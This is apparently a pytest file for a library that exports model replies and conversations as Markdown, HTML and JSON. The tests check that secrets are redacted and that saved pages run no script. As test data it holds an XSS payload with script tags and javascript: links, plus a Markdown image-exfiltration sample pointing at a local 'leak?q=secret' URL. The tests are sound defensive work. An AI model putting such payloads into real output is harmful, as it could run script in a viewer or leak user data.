"""Documents: a reply and a conversation as Markdown, a standalone page and JSON; nothing secret
and nothing that runs gets into them."""

from __future__ import annotations

import json
import re
from pathlib import Path
from typing import Any

import pytest

from dskit.backends.base import Delta, Done
from dskit.documents import redact, safe_markdown
from dskit.errors import ConfigurationError
from dskit.reply import Stats

KEY = "sk-test-7f3a9c2e51d04b8e"


def test_reply_to_markdown_and_html_carry_header_reasoning_and_answer(embedded_client: Any):
    reply = embedded_client.chat("1+1 等于几？", "qwen2.5-coder:0.5b", max_tokens=48, think=True,
                                 seed=3).grade(2)
    md = reply.to_markdown()
    assert md.startswith("## qwen2.5-coder:0.5b (embedded)")
    for row in ("| model | qwen2.5-coder:0.5b (a stand-in, not DeepSeek) |",
                "| backend | embedded |", "| options |", "max_tokens 48", "seed 3",
                "| stats |", "tok/s", "| verdict |"):
        assert row in md, row
    assert "<details><summary>Reasoning" in md and "</details>" in md
    page = reply.to_html()
    assert page.startswith("<!DOCTYPE html>")
    assert "default-src 'none'" in page and "<details>" in page and "max_tokens 48" in page
    assert reply.options["max_tokens"] == 48 and reply.options["think"] is True


def test_conversation_saves_as_markdown_html_and_json(embedded_client: Any, tmp_path: Path):
    conv = embedded_client.conversation("smollm2:135m", max_tokens=24)
    conv.send("Hello! Who are you?")
    conv.send("And what can you do?")
    md = conv.save(tmp_path / "chat.md").read_text("utf-8")
    assert md.startswith("# Conversation with smollm2:135m")
    assert "## Turn 1" in md and "## Turn 2" in md and "And what can you do?" in md
    assert md.count("| backend | embedded |") == 2
    page = conv.save(tmp_path / "chat.html").read_text("utf-8")
    assert "Content-Security-Policy" in page and page.count("<h2>Turn") == 2
    data = json.loads(conv.save(tmp_path / "chat.json").read_text("utf-8"))
    assert [t["prompt"] for t in data["turns"]] == ["Hello! Who are you?",
                                                    "And what can you do?"]
    assert data["turns"][0]["reply"]["stats"]["tokens_per_s"] > 0
    assert data["settings"] == {"max_tokens": 24}
    with pytest.raises(ConfigurationError, match="name the file"):
        conv.save(tmp_path / "chat.pdf")
    assert not (tmp_path / "chat.pdf").exists()


def test_nothing_secret_is_written(scripted: Any, tmp_path: Path,
                                   monkeypatch: pytest.MonkeyPatch):
    monkeypatch.setenv("DEEPSEEK_API_KEY", KEY)
    monkeypatch.setenv("DSKIT_SERVE_TOKEN", "serve-token-0c9b7d")
    home = str(Path.home())
    leak = (f"my key is {KEY}, the token serve-token-0c9b7d, a file in {home}/notes.txt "
            "and https://user:pa55@example.invalid/v1")
    client = scripted([Delta("thinking", leak), Delta("answer", leak), Done(stats=Stats())])
    conv = client.conversation("fake:1b")
    conv.send(f"see {home}/secret")
    for suffix in ("md", "html", "json"):
        text = conv.save(tmp_path / f"c.{suffix}").read_text("utf-8")
        assert KEY not in text and "serve-token-0c9b7d" not in text and "pa55" not in text
        assert f"{home}/" not in text and "~/notes.txt" in text
        assert "***" in text


def test_a_secret_is_found_however_the_page_escaped_it(scripted: Any, tmp_path: Path,
                                                      monkeypatch: pytest.MonkeyPatch):
    token = """pa&ss<wo"rd'42|x"""  # a token a person chose: HTML and JSON both escape it
    monkeypatch.setenv("DSKIT_SERVE_TOKEN", token)
    client = scripted([Delta("thinking", f"the token is {token}"),
                       Delta("answer", f"token: {token}"), Done(stats=Stats())])
    conv = client.conversation("fake:1b", seed=1, stop=[token])  # in the header's options too
    conv.send("hi")
    for suffix in ("md", "html", "json"):
        text = conv.save(tmp_path / f"c.{suffix}").read_text("utf-8")
        for fragment in ("pa&", "pa&amp;", "rd'42", "rd&#x27;42", "rd&#39;42"):
            assert fragment not in text, (suffix, fragment)
        assert text.count("***") >= 3, suffix


def test_redact_leaves_ordinary_text_alone(monkeypatch: pytest.MonkeyPatch):
    monkeypatch.setenv("OPENAI_API_KEY", "abc")  # too short to be told from words: left alone
    assert redact("abc and 球在床上") == "abc and 球在床上"


@pytest.mark.parametrize(("text", "expected"), [
    ("a <b>bold</b> claim", "a &lt;b&gt;bold&lt;/b&gt; claim"),
    ("code `a<b` stays", "code `a<b` stays"),
    ("```html\n<script>x</script>\n```", "```html\n<script>x</script>\n```"),
    ("no tags & fine", "no tags & fine"),
    ("球在**床上**", "球在**床上**"),
])
def test_safe_markdown_shows_raw_html_as_text(text: str, expected: str):
    assert safe_markdown(text) == expected


def test_a_saved_reply_page_runs_nothing(scripted: Any, tmp_path: Path):
    evil = '<script>alert(1)</script><a href="javascript:alert(2)">x</a> [y](javascript:alert(3))'
    client = scripted([Delta("answer", evil), Done(stats=Stats())])
    conv = client.conversation("fake:1b")
    conv.send("hi")
    page = conv.save(tmp_path / "c.html").read_text("utf-8").lower()
    assert "<script" not in page
    assert not re.search(r"href\s*=\s*['\"]?\s*javascript:", page)


EXFIL = ("答案见图 ![pic](http://127.0.0.1:9/leak?q=secret) and ![ref-style][r] and ![short]\n\n"
         "[r]: http://127.0.0.1:9/leak?q=2\n\n`![kept in code](http://x)`")


def test_markdown_exports_never_load_an_image_from_model_output(scripted: Any, tmp_path: Path):
    """A viewer fetches Markdown images as it opens a file: each becomes a plain link."""
    import dskit as ds

    client = scripted([Delta("answer", EXFIL), Done(stats=Stats())],
                      [Delta("answer", EXFIL), Done(stats=Stats())])
    reply = ds.chat("画一张图", "fake:1b", client=client)
    conv = ds.Conversation("fake:1b", client=client)
    conv.send("再画一张")
    rows = ds.compare("fake:1b", ["x"], client=scripted([EXFIL]), progress=False)
    texts = [reply.to_markdown(), conv.save(tmp_path / "c.md").read_text(encoding="utf-8"),
             ds.report(rows, tmp_path / "r.md").read_text(encoding="utf-8")]
    for text in texts:
        outside_code = re.sub(r"`[^`]*`", "", text)
        # dskit's own plots are inline data, which nothing fetches; no other image is left
        assert re.findall(r"!\[[^\]]*\]\((?!data:image/png;base64,)", outside_code) == []
        assert "![short]" not in outside_code and "![ref-style]" not in outside_code
        assert "[image: pic](http://127.0.0.1:9/leak?q=secret)" in text  # still there to click
    assert "`![kept in code](http://x)`" in texts[0]  # code is shown as written
